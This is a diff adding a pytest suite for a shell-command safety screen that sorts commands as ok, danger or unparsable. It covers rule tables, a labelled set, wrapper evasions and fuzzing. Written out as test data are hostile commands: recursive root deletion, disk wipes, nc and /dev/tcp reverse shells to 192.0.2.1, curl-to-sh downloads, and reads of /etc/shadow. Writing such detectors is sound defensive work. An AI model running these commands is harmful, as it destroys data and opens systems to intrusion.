@@ -1,0 +1,259 @@
+"""The safety screen: its table, the labelled set, what the original filter got wrong, and texts of every kind."""
+
+import json
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from scripts.common.digests import imported_modules
+from scripts.common.errors import UserError
+from scripts.dataset.embedded import generate
+from scripts.dataset.rules import CATEGORIES, RULES, SEVERITIES
+from scripts.dataset.screen import evaluate, labelled, screen, table
+from scripts.dataset.shell import read
+
+ROOT = Path(__file__).resolve().parents[3]
+LABELLED = ROOT / "tests" / "data" / "screen_labelled.tsv"
+ROWS = labelled(str(LABELLED))
+RESULT = evaluate(ROWS)
+
+
+@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.name)
+def test_a_rule_flags_and_passes_its_examples(rule):
+    for command in rule.flagged:
+        assert any(rule.matches(one) for one in read(command).commands), command
+    for command in rule.passed:
+        assert screen(command).status == "ok", command
+
+
+def test_the_table_is_complete():
+    assert {rule.category for rule in RULES} == set(CATEGORIES)
+    assert len({rule.name for rule in RULES}) == len(RULES)
+    for rule in RULES:
+        assert rule.severity in SEVERITIES
+        assert rule.attack_id.startswith("T1")
+        assert rule.description.endswith(".")
+        assert rule.flagged and rule.passed
+
+
+def test_the_table_holds_what_every_module_of_the_package_enters():
+    modules = set((ROOT / "scripts" / "dataset" / "rules").glob("*.py"))
+    holders = {Path(rule.matches.__code__.co_filename) for rule in RULES}
+    assert modules - holders == {ROOT / "scripts" / "dataset" / "rules" / name for name in ("__init__.py", "table.py")}
+    assert modules <= set(imported_modules(ROOT / "scripts" / "dataset" / "screen_dataset.py"))
+
+
+def test_the_labelled_set_is_large_balanced_and_apart_from_the_examples():
+    commands = [command for _, _, command in ROWS]
+    examples = {command for rule in RULES for command in (*rule.flagged, *rule.passed)}
+    harmless = sum(label == "ok" for label, _, _ in ROWS)
+    assert len(commands) >= 400
+    assert len(set(commands)) == len(commands)
+    assert not examples & set(commands)
+    assert 0.4 < harmless / len(commands) < 0.6
+    assert {category for label, category, _ in ROWS if label == "danger"} == set(CATEGORIES)
+
+
+def test_recall_and_false_alarms_on_the_labelled_set():
+    assert RESULT["total"]["recall"] >= 0.98, RESULT["wrong"]
+    assert RESULT["total"]["false_alarm_rate"] <= 0.02, RESULT["wrong"]
+    for name, row in RESULT["categories"].items():
+        assert row["refused"] >= 0.95 * row["dangerous"], name
+        assert row["false_alarms"] <= 0.05 * row["harmless"], name
+
+
+MISSED = """
+rm --recursive --force /
+rm -r -f -- /
+find / -delete
+mkfs.ext4 /dev/sda1
+shred /dev/sda
+nc -e /bin/sh 192.0.2.1 4444
+bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
+bash <(curl -s https://example.com/x)
+wget -O- https://example.com/x | sh
+curl https://example.com/x | sudo bash
+chmod -R 777 /
+chown -R nobody /
+sudo -i
+dd of=/dev/sda bs=1M if=/dev/zero
+r''m -rf /
+docker run -v /:/host alpine
+"""
+BLOCKED = """
+rm /tmp/foo.txt
+rm -rf build/
+dd if=a.iso of=b.iso
+base64 -d file
+git config credential.helper store
+"""
+
+
+@pytest.mark.parametrize("command", MISSED.strip().split("\n"))
+def test_what_the_original_filter_missed_is_flagged(command):
+    assert screen(command).status == "danger"
+
+
+@pytest.mark.parametrize("command", BLOCKED.strip().split("\n"))
+def test_what_the_original_filter_blocked_passes(command):
+    assert screen(command).status == "ok"
+
+
+@pytest.mark.parametrize(
+    "wrapped",
+    [
+        "sudo {}",
+        "sudo -u root -- {}",
+        "env A=1 {}",
+        "/usr/bin/env {}",
+        "nohup {} &",
+        "timeout -k 1 10 {}",
+        "nice -n 5 {}",
+        "xargs {} < /dev/null",
+        "find . -exec {} \\;",
+        "sh -c '{}'",
+        "bash -lc '{}'",
+        "sudo sh -c 'env -i {}'",
+        "eval '{}'",
+        "$({})",
+        "cat <({})",
+        "echo '{}' | sh",
+        "bash <<< '{}'",
+        "ssh host '{}'",
+        "if true; then {}; fi",
+        "true && {}",
+        "f() {{ {}; }}; f",
+        "trap '{}' EXIT",
+        "watch '{}'",
+        "python3 -c \"import os; os.system('{}')\"",
+    ],
+)
+def test_wrappers_hide_nothing(wrapped):
+    assert screen(wrapped.format("rm -rf /etc")).status == "danger"
+    assert screen(wrapped.format("rm -rf build")).status == "ok"
+
+
+def test_a_verdict_tells_category_rule_severity_and_technique():
+    verdict = screen("sudo dd if=/dev/zero of=/dev/sda")
+    assert (verdict.status, verdict.category, verdict.rule) == ("danger", "disk-destruction", "write-disk")
+    assert (verdict.severity, verdict.attack_id) == ("critical", "T1561")
+    assert screen("ls").category is None
+
+
+def test_the_embedded_data_passes():
+    found = {row["command"]: screen(row["command"]).line() for row in generate(42, 4800)}
+    assert {command: line for command, line in found.items() if line != "ok"} == {}
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["if then", "rm -rf 'unclosed", "ls\0rm", "a" * 100_000, "$(" * 3000, "echo " + "$(echo " * 200 + ")" * 200, ")"],
+    ids=["syntax", "quote", "NUL", "long", "open", "deep", "bracket"],
+)
+def test_what_cannot_be_parsed_is_refused(text):
+    assert screen(text).status == "unparsable"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "nc a | " * 190 + "sh",
+        "sh | " * 190 + "nc a",
+        "curl x | " + "tee a | " * 190 + "sh",
+        "echo $(curl a)" * 190 + " | sh",
+        "f(){ f; f; };f",
+        "x=a;" + "x=$x$x;" * 40,
+        "echo " + "{a,b}" * 30,
+        "rm -rf " + "*" * 60_000,
+        "cat " + "../" * 20_000,
+        "python3 -c '" + "os.system(" * 6000 + "'",
+        "echo '" + "a -b " * 8000 + "' >> ~/.bashrc",
+        "a | " * 10_000 + "b",
+        "echo '" + "<?php system(" * 4000 + "' > a.php",
+        "kubectl get secret -o " + "jsonpath=" * 4000,
+        "python3 -c '" + "socket" * 6000 + "'",
+        "sed -i '" + "1i /tmp" * 7000 + "' ~/.bashrc",
+    ],
+    ids=range(16),
+)
+def test_no_text_keeps_the_screen_busy(text):
+    before = time.process_time()
+    screen(text)
+    assert time.process_time() - before < 20, "a bound against hanging, not a timing"
+
+
+_PIECES = st.sampled_from(
+    "rm -rf / ~ $HOME * sudo sh -c ' \" ` $( ) <( | || & && ; ;; > >> < <<EOF <<< { } ( \\ \n # ! [[ ]] [ ] if then fi"
+    " for in do done while case esac f() x= $x ${x:-/} ${x[@]} $((1+1)) {a,b} {1..3} curl base64 -d echo printf find"
+    " -exec {} + \\; xargs /dev/tcp/h/1 /etc/shadow \0 \ue000 \ue002 é \ud800 python3 eval . env A=b".split(" ")
+)
+
+
+def test_characters_beyond_the_scanners_table_do_not_crash():
+    for code in (0x100, 0xFFFF, 0x10000, 0x49874, 0x10FFFF):
+        for text in (f"{{{chr(code)}}}", f"echo {chr(code)} << {chr(code)}", f"$({chr(code)}", f"rm -rf / {chr(code)}"):
+            assert screen(text * 50).status in ("ok", "danger", "unparsable")
+    assert screen("rm -rf / # \U0001f600").status == "danger"
+
+
+@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(
+    st.one_of(
+        st.text(max_size=200), st.lists(_PIECES, max_size=25).map(" ".join), st.lists(_PIECES, max_size=25).map("".join)
+    )
+)
+def test_no_text_crashes_the_screen(text):
+    verdict = screen(text)
+    assert verdict.status in ("ok", "danger", "unparsable")
+    assert (verdict.status == "danger") == (verdict.rule is not None)
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.binary(max_size=200))
+def test_bytes_decoded_leniently_are_judged(data):
+    assert screen(data.decode("utf-8", "replace")).line()
+
+
+@settings(max_examples=100, deadline=None)
+@given(
+    st.sampled_from([c for label, _, c in ROWS if label == "danger"]),
+    st.sampled_from(["ls; {}", "{} # note", "true && {}"]),
+)
+def test_company_does_not_make_a_command_safer(command, around):
+    if screen(command).status == "danger" and not command.rstrip().endswith("\\") and "#" not in command:
+        assert screen(around.format(command)).status != "ok"
+
+
+def run(*arguments: str, data: bytes = b"") -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "-m", "scripts.dataset.screen", *arguments], input=data, capture_output=True, cwd=ROOT
+    )
+
+
+def test_the_command_line_answers_line_by_line():
+    done = run(data=b"ls -l\nrm -rf /\n\nif then\n\xff\xfe\r\necho 'rm -rf /'\n")
+    assert done.returncode == 0
+    lines = done.stdout.decode().split("\n")
+    assert lines[:4] == ["ok", "danger\tdestructive-files\tdelete-tree", "ok", "unparsable"]
+    assert len(lines) == 7 and lines[5] == "ok"
+
+
+def test_the_command_line_evaluates():
+    done = run("--evaluate", str(LABELLED), "--json")
+    assert done.returncode == 0
+    assert json.loads(done.stdout) == RESULT
+    assert "| **all** |" in table(RESULT)
+
+
+def test_a_wrong_labelled_set_is_explained(tmp_path):
+    broken = tmp_path / "set.tsv"
+    broken.write_text("label\tcategory\tcommand\nmaybe\tx\tls\n")
+    with pytest.raises(UserError, match="line 2"):
+        labelled(str(broken))
+    done = run("--evaluate", str(tmp_path / "none.tsv"))
+    assert done.returncode == 2 and b"Traceback" not in done.stderr
